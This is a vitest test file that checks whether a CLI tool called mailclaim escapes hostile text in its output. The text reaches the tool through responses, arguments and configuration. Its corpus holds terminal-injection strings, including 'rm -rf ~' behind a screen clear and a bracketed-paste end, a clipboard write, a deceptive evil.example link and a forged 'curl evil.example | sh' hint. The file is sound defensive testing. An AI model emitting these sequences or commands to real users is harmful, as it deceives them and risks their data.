import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { walkCommands } from '../../src/commands/definition.ts'
import { commandTree } from '../../src/commands/tree.ts'
import { DnsTransportError } from '../../src/context.ts'
import { createFakeContext, type FakeContext, jsonResponse, textResponse } from '../fake-context.ts'
import { run } from '../run.ts'
import { harmfulIn } from './in-process-client.ts'

/** Texts that attack a terminal, its clipboard, or the line structure of output, by the attack's name. */
const CORPUS: Readonly<Record<string, string>> = {
  'every C0 control': Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('x'),
  'DEL and every C1 control': Array.from({ length: 33 }, (_, at) => String.fromCharCode(0x7f + at)).join('x'),
  'a color that is never reset': '\u001b[31;5mred',
  'a cleared screen': '\u001b[2J\u001b[H$ rm -rf ~',
  'an 8-bit CSI': '\u009b2J\u009b1;1H',
  'a window title (OSC 0)': '\u001b]0;root@host\u0007',
  'a deceptive hyperlink (OSC 8)':
    '\u001b]8;;https://evil.example/\u001b\\https://good.example/\u001b]8;;\u001b\\',
  'a clipboard write (OSC 52)': '\u001b]52;c;cm0gLXJmIH4=\u0007',
  'a device control string': '\u001bP$q"p\u001b\\',
  'queries that the terminal answers': '\u001b[6n\u001b[c\u0005',
  'the end of a bracketed paste': '\u001b[201~rm -rf ~\r',
  'an overwritten line': 'done\rerror: you are hacked',
  'forged error and hint lines': 'x\nerror: your session is over\nhint: run curl evil.example | sh',
  'workflow commands of a CI step':
    'x\n::error::you are hacked\r\n  ##[error]you are hacked\r::error::you are hacked',
  'other line separators': 'a\u2028b\u2029c\u0085d\u000be\u000cf',
  tabs: 'a\tb\tc',
  'a right-to-left override': 'invoice\u202egpj.exe',
  'bidi isolates': '\u2066a\u2067b\u2068c\u2069',
  'directional marks': '\u200ea\u200fb\u061cc',
  'zero-width characters': 'exa\u200bmple\u200c.\u200dco\u2060m\ufeff',
  'invisible letters': 'a\u00adb\u034fc\u3164d\u115fe',
  'tag characters': '\u{e0041}\u{e0042}\u{e007f}',
  'lone surrogates': 'a\ud800b\udc00c',
  'many combining marks on one letter': `Z${'\u0300\u0489'.repeat(40)}`,
  'quotes and commas': '","x\r\n=1+1,"',
  backspaces: 'safe\b\b\b\bevil',
}
/** All texts of `CORPUS` in one. */
const EVIL = Object.values(CORPUS).join(' ')
const FORMATS = ['table', 'json', 'jsonl', 'tsv'] as const

/** Returns responses with the attack in every value, in names of unknown fields, and in a grant's client name. */
function poisoned(evil: string) {
  const id = '2c0b1d34-0c5b-4d71-9c5e-7e7a3f1f0a01'
  const extra = { [evil]: evil, more: { [evil]: [evil] } }
  const list = (item: object) => ({ object: 'list', has_more: false, [evil]: evil, data: [item] })
  const claim = {
    object: 'domain_claim',
    id,
    name: evil,
    status: evil,
    domain_id: id,
    region: evil,
    record: { type: evil, name: evil, value: `prefix=${evil}`, ttl: evil },
    blocked_reason: null,
    failure_reason: null,
    created_at: evil,
    expires_at: evil,
    ...extra,
  }
  return {
    grants: list({
      id: `${id}${evil}`,
      client_id: evil,
      scopes: [evil, 'a,b'],
      resource: evil,
      created_at: evil,
      revoked_at: null,
      revoked_reason: null,
      client: { name: evil, logo_uri: evil },
      ...extra,
    }),
    imports: list({
      id: evil,
      status: evil,
      created_at: evil,
      completed_at: evil,
      counts: { total: evil },
      ...extra,
    }),
    oneImport: {
      id: evil,
      status: evil,
      created_at: evil,
      completed_at: evil,
      counts: { total: 1, [evil]: evil },
      ...extra,
    },
    claim,
    blocked: { ...claim, status: 'blocked', blocked_reason: evil },
    failed: { ...claim, status: 'failed', failure_reason: evil },
  }
}

type Answers = ReturnType<typeof poisoned>

const ID = '2c0b1d34-0c5b-4d71-9c5e-7e7a3f1f0a01'
const COMMANDS: readonly (readonly [string, string, keyof Answers])[] = [
  ['grants list', 'grants list', 'grants'],
  ['imports list', 'imports list --all', 'imports'],
  ['imports get', `imports get ${ID}`, 'oneImport'],
  ['imports watch', `imports watch ${ID} --timeout 5`, 'oneImport'],
  ['claims create', 'claims create example.com', 'claim'],
  ['claims get', `claims get ${ID}`, 'claim'],
  ['claims record', `claims record ${ID}`, 'claim'],
  ['claims verify', `claims verify ${ID} --no-check`, 'claim'],
  ['claims watch, unknown status', `claims watch ${ID} --timeout 5`, 'claim'],
  ['claims watch, blocked', `claims watch ${ID}`, 'blocked'],
  ['claims watch, failed', `claims watch ${ID}`, 'failed'],
  ['claim', 'claim example.com --no-check --timeout 5', 'claim'],
  ['claims list', 'claims list', 'claim'],
  ['claims list --refresh', 'claims list --refresh', 'claim'],
  ['claims check', `claims check ${ID} --wait --timeout 5`, 'claim'],
  ['claims verify, failing', `claims verify ${ID} --wait --timeout 5`, 'failed'],
  ['claims forget', `claims forget ${ID}`, 'claim'],
  ['login', 'login --with-api-key --store file --no-input', 'grants'],
  ['logout', 'logout', 'grants'],
  ['auth status', 'auth status --online', 'grants'],
  ['auth token', 'auth token', 'grants'],
  ['auth refresh', 'auth refresh', 'grants'],
  ['auth list', 'auth list', 'grants'],
  ['auth switch', 'auth switch ::error::x', 'grants'],
  ['doctor', 'doctor', 'grants'],
  ['config list', 'config list', 'grants'],
  ['config get', 'config get ::error::x', 'grants'],
  ['config set', 'config set resolver ::error::x', 'grants'],
  ['config unset', 'config unset ::error::x', 'grants'],
  ['completion', 'completion ::error::x', 'grants'],
  ['commands', 'commands ::error::x', 'grants'],
  ['sandbox', 'sandbox --port ::error::x', 'grants'],
]
/** Texts that at the beginning of a line pass for a command of a CI log, or for an error of this program. */
const BEGINNINGS = [
  EVIL,
  '::error::you are hacked',
  '##[error]you are hacked',
  'error: you are hacked',
  'error',
]

function world(terminal: boolean, respond: Parameters<typeof createFakeContext>[0]): FakeContext {
  const context = createFakeContext({
    ...respond,
    ...(terminal ? { terminal: { columns: 100 } } : {}),
    environment: {
      settings: { base_url: 'http://127.0.0.1:1', authoritative_port: '53' },
      apiKey: 'k',
      noColor: true,
      term: 'dumb',
    },
    dns: { udp: noDns, tcp: noDns, systemResolvers: async () => [] },
  })
  context.stdin.stream.end('k\n')
  return context
}

const noDns = () => Promise.reject(new DnsTransportError('unreachable', 'no DNS here'))

function printed({ stdout, stderr }: FakeContext): string {
  return stdout.text + stderr.text
}

/** Returns the lines of stderr that hostile text has begun: a second error, or a CI command. */
function strangeLines({ stderr }: FakeContext): string[] {
  const lines = stderr.text.split('\n')
  const errors = lines.filter((line) => /^(error: |\{"error")/.test(line)).slice(1)
  return [...errors, ...lines.filter((line) => /^\s*(::|##\[|x$|you are hacked)/.test(line))]
}

test('the tests with hostile text cover every command', () => {
  const attacked = COMMANDS.map(([, line]) => `${line} `)
  const names = [...walkCommands(commandTree)].map(({ path }) => `${path.join(' ')} `)
  expect(names.filter((name) => !attacked.some((line) => line.startsWith(name)))).toEqual([])
})

test.each(COMMANDS)('no stderr line of mailclaim %s begins with hostile text', async (_name, line, which) => {
  for (const evil of BEGINNINGS) {
    const refusal = jsonResponse(422, { name: evil, message: evil })
    for (const answer of [jsonResponse(200, poisoned(evil)[which]), refusal]) {
      const context = world(false, { respond: () => answer })
      await run([...line.split(' '), '--format', 'table', '--verbose'], context)
      expect(strangeLines(context), context.stderr.text).toEqual([])
    }
  }
})

test.each(COMMANDS)(
  'hostile text from the service is harmless in the output of mailclaim %s in each format',
  async (_name, line, which) => {
    const answers = poisoned(EVIL)
    for (const terminal of [true, false]) {
      for (const format of FORMATS) {
        const context = world(terminal, { respond: () => jsonResponse(200, answers[which]) })
        const code = await run([...line.split(' '), '--format', format], context)
        expect(code, context.stderr.text).not.toBe(1)
        expect(harmfulIn(printed(context)), `${format}, terminal: ${terminal}`).toEqual([])
        expectOneRecordALine(context, format, line)
      }
    }
  },
)

test.each(['zone', 'value', 'table'])('`claims record --format %s` escapes hostile text', async (format) => {
  const { claim } = poisoned(EVIL)
  const record = { type: 'TXT', name: 'app.example.com', value: `prefix=${EVIL}`, ttl: EVIL }
  for (const name of [record.name, `${EVIL}.example.com`]) {
    const respond = () => jsonResponse(200, { ...claim, name, record: { ...record, name } })
    const context = world(true, { respond })
    expect([0, 7]).toContain(await run(['claims', 'record', ID, '--format', format], context))
    expect(harmfulIn(printed(context))).toEqual([])
  }
})

test.each([200, 301, 400, 401, 403, 404, 409, 429, 500])(
  'hostile text in a response with status %i is harmless in messages',
  async (status) => {
    const json = JSON.stringify({ statusCode: 400, name: EVIL, message: EVIL })
    for (const body of [json, JSON.stringify({ error: { message: EVIL } }), `<html>${EVIL}</html>`, EVIL]) {
      for (const format of ['table', 'json']) {
        const headers = { location: EVIL, 'retry-after': EVIL, 'content-type': EVIL }
        const context = world(true, { respond: () => textResponse(status, body, headers) })
        await run(['imports', 'list', '--verbose', '--format', format], context)
        expect(harmfulIn(printed(context)), body).toEqual([])
        expect(strangeLines(context)).toEqual([])
      }
    }
  },
)

test.each<readonly string[]>([
  [EVIL],
  ['claims', EVIL],
  ['--profile', EVIL, 'claims', 'list'],
  ['claims', 'create', EVIL],
  ['imports', 'get', EVIL],
  ['imports', 'list', '--limit', EVIL],
  ['imports', 'list', `--${EVIL}`],
  ['claims', 'check', '--name', EVIL, '--value', EVIL],
  ['config', 'set', EVIL, EVIL],
  ['--base-url', EVIL, 'grants', 'list'],
  ['__complete', '--', EVIL],
])('hostile text in arguments is harmless in messages', async (...argv) => {
  const context = world(true, { respond: () => jsonResponse(404, {}) })
  expect(await run(argv, context), context.stderr.text).not.toBe(1)
  expect(harmfulIn(printed(context))).toEqual([])
})

test.each(['base_url', 'client_id', 'profile', 'store', 'resolver', 'authoritative_port'])(
  'hostile text as value of the setting %s, in a variable or the configuration file, is harmless in the output',
  async (key) => {
    const settings = { base_url: 'http://127.0.0.1:1' }
    const inVariable = world(true, { respond: () => jsonResponse(401, {}) })
    Object.assign(inVariable, {
      environment: { ...inVariable.environment, settings: { ...settings, [key]: EVIL } },
    })
    const inFile = world(true, { respond: () => jsonResponse(401, {}) })
    mkdirSync(inFile.directories.config, { recursive: true })
    const profiles = { default: { [key]: EVIL }, [EVIL]: {} }
    writeFileSync(join(inFile.directories.config, 'config.json'), JSON.stringify({ version: 1, profiles }))
    for (const context of [inVariable, inFile]) {
      for (const words of ['auth status', 'grants list', 'config list', 'auth list'])
        await run(words.split(' '), context)
      expect(harmfulIn(printed(context))).toEqual([])
    }
  },
)

/** Checks that the output is still valid: JSON parses, and each TSV record is one line with all cells. */
function expectOneRecordALine(context: FakeContext, format: string, line: string): void {
  const text = context.stdout.text
  if (text === '') return
  if (format === 'json') JSON.parse(text)
  if (format === 'jsonl') for (const one of text.trimEnd().split('\n')) JSON.parse(one)
  if (format === 'tsv') {
    const rows = text.replace(/\n$/, '').split('\n')
    const cells = rows.map((row) => row.split('\t').length)
    expect(new Set(cells).size, `${line}\n${text}`).toBe(1)
  }
}
